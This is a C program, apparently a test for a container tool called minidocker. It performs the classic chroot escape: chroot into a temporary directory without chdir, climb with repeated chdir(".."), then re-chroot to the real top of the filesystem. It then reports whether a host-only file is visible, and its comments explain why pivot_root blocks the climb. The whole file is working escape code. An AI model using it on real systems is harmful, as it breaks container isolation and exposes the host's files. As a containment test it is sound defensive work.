/*
 * chroot_breakout.c -- the classic way out of a chroot(2) "jail".
 *
 *     usage: chroot_breakout PATH
 *
 * Run it as root inside a container.  It tries to climb out of the
 * container's root and then looks for PATH, a file that exists only on the
 * host:
 *
 *     ESCAPED: PATH is visible       (exit 0)  -- we reached the host's tree
 *     CONTAINED: PATH is not visible (exit 1)  -- we could not get out
 *
 * A failing system call prints a perror-style message and exits 2.
 *
 * Why it works: chroot(2) changes only ONE thing, the directory a process
 * treats as "/" when it resolves paths.  The manual page says so itself:
 *
 *     "This call does not change the current working directory, so that
 *      after the call '.' can be outside the tree rooted at '/'."
 *
 * and the kernel stops a ".." only when it is standing exactly on the
 * process's root.  A working directory that is *outside* the root never
 * meets that stop, so ".." keeps climbing until the real top of the
 * filesystem.  `minidocker run --chroot` changes root this way, and the
 * host's mounts are all still there underneath, so this program gets out.
 *
 * The default, pivot_root(2), instead makes the container's tree the root
 * *mount* of its mount namespace and detaches the host's tree.  There is
 * nothing above the container's "/" any more, so the same climb goes nowhere.
 *
 * It is built with `gcc -static` because the busybox image has no C library
 * for it to load.
 */
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

/* Far more ".." than any real directory tree is deep.  Extra ones are
 * harmless: ".." at the very top of the filesystem stays where it is. */
#define CLIMBS 1024

static void fail(const char *what)
{
    perror(what); /* e.g. "chroot: Operation not permitted" */
    exit(2);
}

int main(int argc, char **argv)
{
    char dir[] = "/tmp/chroot-breakout-XXXXXX";
    struct stat st;
    int i;

    if (argc != 2) {
        fprintf(stderr, "usage: %s PATH\n", argv[0]);
        return 2;
    }

    /* Step 1: make an empty directory to be our new "jail".  It is created
     * in the container's own writable layer, which `run --rm` throws away. */
    if (mkdtemp(dir) == NULL)
        fail("mkdtemp");

    /* Step 2: chroot() into it -- and deliberately do NOT chdir() into it.
     * From now on "/" means `dir`, but our working directory is still where
     * we started, which is outside the tree rooted at the new "/".  (A
     * careful program would chdir("/") right after chroot(); this is the
     * hole that step leaves open when it is missing.)  Needs CAP_SYS_CHROOT,
     * which a container's root keeps by default. */
    if (chroot(dir) != 0)
        fail("chroot");

    /* Step 3: climb.  Each chdir("..") goes one directory up.  The kernel
     * refuses to go above a process's root only when the working directory
     * IS that root -- and ours never is, because the root is now `dir`,
     * somewhere below us.  So we pass the container's "/" and keep going up
     * to the top of whatever is mounted underneath it. */
    for (i = 0; i < CLIMBS; i++) {
        if (chdir("..") != 0)
            fail("chdir ..");
    }

    /* Step 4: make wherever we ended up our root.  After a chroot the
     * working directory is the top of the tree, so paths like PATH now
     * resolve from there. */
    if (chroot(".") != 0)
        fail("chroot .");

    /* Step 5: look.  stat() fails for a file that is not in our tree. */
    if (stat(argv[1], &st) == 0) {
        printf("ESCAPED: %s is visible\n", argv[1]);
        return 0;
    }
    printf("CONTAINED: %s is not visible\n", argv[1]);
    return 1;
}
